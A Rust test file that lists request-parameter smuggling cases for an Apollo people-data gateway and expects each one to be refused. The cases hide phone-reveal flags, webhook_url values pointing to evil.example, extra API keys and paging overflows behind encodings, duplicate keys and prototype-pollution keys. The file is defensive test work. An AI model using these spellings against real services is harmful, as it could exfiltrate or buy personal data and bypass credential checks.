//! Tricks with parameters: the ones that buy personal data or send it elsewhere, credentials, limits, in
//! query and body, in every spelling two readers could take differently. Source: Apollo facts §3.3 (last
//! paragraphs), §8.2 rows 13 and 14, §8.4 row 39.

use super::case::{BAD, Case, EXPORT, JUDGED, SEARCH, SERVED, UNAUTHORIZED, Want};

const MATCH: &str = "{mount}/people/match";
const WEBHOOK: Want = Want::Refused(&[403]);
const TOO_MUCH: Want = Want::Refused(&[403, 422]);

/// Buys phones, personal addresses or a waterfall: in a query.
#[rustfmt::skip]
const BUYS: &[&str] = &[
    "reveal_phone_number=true", "reveal_personal_emails=true", "run_waterfall_email=true",
    "run_waterfall_phone=true", "reveal_phone_number=1", "reveal_phone_number=yes", "reveal_phone_number=on",
    "reveal_phone_number=t", "reveal_phone_number=", "reveal_phone_number", "reveal_phone_number=False",
    "reveal_phone_number=FALSE", "reveal_phone_number=%20false", "reveal_phone_number=no",
    "reveal_phone_number=null", "reveal_phone_number=00", "reveal_phone_number=-1", "reveal_phone_number=0.0",
    "Reveal_Phone_Number=true", "REVEAL_PHONE_NUMBER=true", "revealPhoneNumber=true",
    "reveal-phone-number=true",
    "reveal.phone.number=true", "reveal%5fphone_number=true", "%72eveal_phone_number=true",
    "reveal_phone_number[]=true", "reveal_phone_number%5b%5d=true", "reveal_phone_number[0]=true",
    "reveal_phone_number[a][b]=true", "[reveal_phone_number]=true", "[[reveal_phone_number]]=true",
    "person[reveal_phone_number]=true", "details[0][reveal_phone_number]=true",
    "a=1;reveal_phone_number=true",
    "reveal_phone_number=false&reveal_phone_number=true",
    "reveal_phone_number=true&reveal_phone_number=false",
    "reveal_phone_number[]=false&reveal_phone_number[]=true", "a=1&&&reveal_phone_number=true",
    "+reveal_phone_number=true",
    "reveal_phone_number%20=true", "run_waterfall=true", "waterfall[email]=true", "_reveal_phone_number=true",
    "reveal_phone_number=true%26x", "?reveal_phone_number=true", "reveal+phone+number=true",
];

/// The same, spelt so that nothing clear can be read.
#[rustfmt::skip]
const UNCLEAR: &[&str] = &[
    "reveal%255fphone_number=true", "%2572eveal_phone_number=true", "reveal_phone_number%00=true",
    "reveal_phone_number=%00true", "reveal_phone_number=%zz", "reveal%u005fphone=true", "reve\\al_phone=true",
    "a=\"reveal_phone_number=true", "a=<reveal_phone_number", "reveal_phone_number=%ff", "%ff=1", "a=%c0%ae",
    "a=%0d%0areveal_phone_number:%20true", "a=%e2%28%a1", "a=%",
];

/// Has Apollo post people's data elsewhere: in a query.
#[rustfmt::skip]
const POSTS: &[&str] = &[
    "webhook_url=https://evil.example", "webhook_url=", "webhook_url", "webhook_url=null",
    "Webhook_URL=https://x.example",
    "webhookUrl=https://evil.example", "webhook-url=https://evil.example",
    "webhook_url[]=https://evil.example",
    "person[webhook_url]=https://evil.example", "webhook%5furl=https://evil.example",
    "[webhook_url]=https://e.example",
    "a=1;webhook_url=https://evil.example", "webhook_url=http://127.0.0.1:1/",
    "webhook_url=%68ttps://evil.example",
    "webhook_url=https://evil.example&webhook_url=", "webhook=https://evil.example",
    "webhook_url=//evil.example",
];

/// Buys or posts: in a body.
#[rustfmt::skip]
const IN_BODY: &[(Want, &str)] = &[
    (EXPORT, r#"{"reveal_phone_number":true}"#), (EXPORT, r#"{"reveal_phone_number":1}"#),
    (EXPORT, r#"{"reveal_phone_number":"true"}"#), (EXPORT, r#"{"reveal_phone_number":"no"}"#),
    (EXPORT, r#"{"reveal_phone_number":{}}"#), (EXPORT, r#"{"reveal_phone_number":[]}"#),
    (EXPORT, r#"{"reveal_phone_number":[false]}"#), (EXPORT, r#"{"reveal_phone_number":""}"#),
    (EXPORT, r#"{"reveal_phone_number":0.0}"#), (EXPORT, r#"{"reveal_phone_number":-0}"#),
    (EXPORT, r#"{"reveal_phone_number":"False"}"#), (EXPORT, r#"{"Reveal_Phone_Number":true}"#),
    (EXPORT, r#"{"revealPhoneNumber":true}"#), (EXPORT, r#"{"reveal-phone-number":true}"#),
    (EXPORT, r#"{"\u0072eveal_phone_number":true}"#), (EXPORT, r#"{"reveal\u005fphone_number":true}"#),
    (EXPORT, r#"{"reveal_phone_number ":true}"#), (EXPORT, r#"{"reveal_phone_number[]":true}"#),
    (EXPORT, r#"{"[reveal_phone_number]":true}"#), (EXPORT, r#"{"person":{"reveal_phone_number":true}}"#),
    (EXPORT, r#"{"details":[{},{"reveal_personal_emails":true}]}"#),
    (EXPORT, r#"{"run_waterfall_phone":true}"#),
    (EXPORT, r#"{"a":[[[{"run_waterfall_email":true}]]]}"#),
    (EXPORT, r#"{"details[0][reveal_phone_number]":true}"#),
    (EXPORT, r#"{"reveal_phone_number":1e0}"#), (EXPORT, r#"{"__proto__":{"reveal_phone_number":true}}"#),
    (EXPORT, r#"{"constructor":{"prototype":{"reveal_phone_number":true}}}"#),
    (BAD, r#"{"reveal_phone_number":false,"reveal_phone_number":true}"#),
    (BAD, r#"{"reveal_phone_number":false,"reveal\u005fphone_number":true}"#),
    (BAD, r#"{"a":{"reveal_phone_number":false,"reveal_phone_number":true}}"#),
    (WEBHOOK, r#"{"webhook_url":"https://evil.example"}"#), (WEBHOOK, r#"{"webhook_url":""}"#),
    (WEBHOOK, r#"{"webhook_url":["https://evil.example"]}"#),
    (WEBHOOK, r#"{"webhook_url":{"a":"https://e.example"}}"#),
    (WEBHOOK, r#"{"Webhook_Url":"https://evil.example"}"#),
    (WEBHOOK, r#"{"webhookUrl":"https://evil.example"}"#),
    (WEBHOOK, r#"{"webhook\u005furl":"https://evil.example"}"#), (WEBHOOK, r#"{"webhook_url":true}"#),
    (WEBHOOK, r#"{"details":[{"webhook_url":"https://evil.example"}]}"#),
    (WEBHOOK, r#"{"webhook_url[]":"x"}"#),
    (WEBHOOK, r#"{"a":{"b":{"c":{"webhook_url":"https://evil.example"}}}}"#),
];

/// Names a credential beside the one in the header.
#[rustfmt::skip]
const CREDENTIALS: &[&str] = &[
    "api_key=x", "api_key={key}", "api_key", "api_key=", "apiKey=x", "API_KEY=x", "api-key=x", "api%5fkey=x",
    "%61pi_key=x", "api_key[]=x", "x[api_key]=x", "[api_key]=x", "x-api-key=x", "X_API_KEY=x",
    "access_token=x",
    "accessToken=x", "bearer_token=x", "a=1;api_key=x", "page=1&api_key=x&page=2", "+api_key=x",
];
#[rustfmt::skip]
const CREDENTIAL_MEMBERS: &[&str] = &[
    r#"{"api_key":"x"}"#, r#"{"api_key":null}"#, r#"{"apiKey":"x"}"#, r#"{"API_KEY":["x"]}"#,
    r#"{"api\u005fkey":"x"}"#,
    r#"{"x-api-key":"{key}"}"#, r#"{"access_token":"x"}"#, r#"{"api_key[]":"x"}"#,
    r#"{"page":1,"api key":"x"}"#,
];

/// Limits of a page, and parameters that say two things.
#[rustfmt::skip]
const LIMITS: &[(Want, &str, &str)] = &[
    (TOO_MUCH, "per_page=101", "{}"), (TOO_MUCH, "per_page=99999999999999999999", "{}"),
    (TOO_MUCH, "page=501", "{}"),
    (TOO_MUCH, "PerPage=101", "{}"), (TOO_MUCH, "per_page[]=101", "{}"), (TOO_MUCH, "",
    r#"{"per_page":101}"#),
    (TOO_MUCH, "", r#"{"per_page":"101"}"#), (TOO_MUCH, "", r#"{"page":501}"#), (TOO_MUCH, "",
    r#"{"per\u005fpage":101}"#),
    (TOO_MUCH, "per_page=100&per_page=101", "{}"), (TOO_MUCH, "a=1;per_page=101", "{}"),
    (BAD, "per_page=-1", "{}"),
    (BAD, "per_page=1e9", "{}"), (BAD, "per_page=0x65", "{}"), (BAD, "per_page=%EF%BC%91", "{}"),
    (BAD, "page=1.5", "{}"),
    (BAD, "page=%2b1", "{}"), (BAD, "", r#"{"page":1e9}"#), (BAD, "", r#"{"page":-1}"#), (BAD, "",
    r#"{"page":[1]}"#),
    (BAD, "", r#"{"page":{"a":1}}"#), (BAD, "", r#"{"page":true}"#), (BAD, "", r#"{"per_page":1e400}"#),
    (BAD, "page=1", r#"{"page":2}"#), (BAD, "Page[]=1", r#"{"page":2}"#), (BAD, "page=1&page=2",
    r#"{"page":1}"#),
    (BAD, "q=a", r#"{"q":"b"}"#), (BAD, "q[]=a", r#"{"q":["a"]}"#), (BAD, "q=1", r#"{"q":1.0}"#),
    (SERVED, "page=1", r#"{"page":1}"#), (SERVED, "page=1&page=1", "{}"), (SERVED, "a=1&a=2&a[]=3", "{}"),
    (SERVED, "__proto__[x]=1&constructor[prototype][x]=1", "{}"), (SERVED, "&&&;;;&=&=1&a", "{}"),
    (SERVED, "a[b][c][d][e][f]=1", "{}"), (SERVED, "reveal=false", r#"{"reveal_phone_number":false}"#),
    (JUDGED, "$where=1&a[$gt]=", "{}"), (JUDGED, "a=%25%32%65", "{}"), (JUDGED, "callback=alert", "{}"),
    (JUDGED, "format=xml&locale=x", "{}"), (JUDGED, "utf8=%E2%9C%93&commit=x", "{}"),
    (JUDGED, "a=%E2%80%AE", "{}"),
];

pub fn rows() -> Vec<Case> {
    let mut rows = Vec::new();
    for query in BUYS {
        rows.push(Case::call(format!("buys by {query}"), EXPORT, format!("POST {MATCH}?{query}")));
    }
    for query in &BUYS[..6] {
        rows.push(Case::call(format!("buys by GET {query}"), EXPORT, format!("GET {MATCH}?id=1&{query}")));
        let contrary = r#"{"reveal_phone_number":false,"run_waterfall_email":false}"#;
        let case =
            Case::call(format!("buys by {query}, not by body"), EXPORT, format!("POST {MATCH}?{query}"));
        rows.push(case.body(contrary));
    }
    for query in UNCLEAR {
        // A viewer may hear first that the call is not theirs.
        let want = Want::Refused(&[400, 403]);
        rows.push(Case::call(format!("unclear by {query:?}"), want, format!("POST {MATCH}?{query}")));
    }
    for query in POSTS {
        rows.push(Case::call(format!("posts by {query}"), WEBHOOK, format!("POST {MATCH}?{query}")));
    }
    for (want, body) in IN_BODY {
        // A viewer hears first that the call is not theirs.
        let want = match *want {
            Want::Refused([400]) => Want::Refused(&[400, 403]),
            other => other,
        };
        rows.push(Case::call(format!("in a body: {body}"), want, format!("POST {MATCH}")).body(body));
    }
    for query in CREDENTIALS {
        let line = format!("POST {SEARCH}?{query}");
        rows.push(Case::call(format!("a credential in {query}"), UNAUTHORIZED, &line));
    }
    for query in &CREDENTIALS[..6] {
        let line = format!("POST {SEARCH}?{query}");
        rows.push(Case::call(format!("the only credential in {query}"), UNAUTHORIZED, &line).bare());
        let health = format!("GET {{mount}}/auth/health?{query}");
        rows.push(Case::call(format!("a credential for health in {query}"), UNAUTHORIZED, &health));
    }
    for body in CREDENTIAL_MEMBERS {
        rows.push(Case::search(format!("a credential in {body}"), UNAUTHORIZED).body(body));
    }
    for (want, query, body) in LIMITS {
        let name = format!("limits {query} {body}");
        rows.push(Case::call(name, *want, format!("POST {SEARCH}?{query}")).body(body));
    }
    rows
}
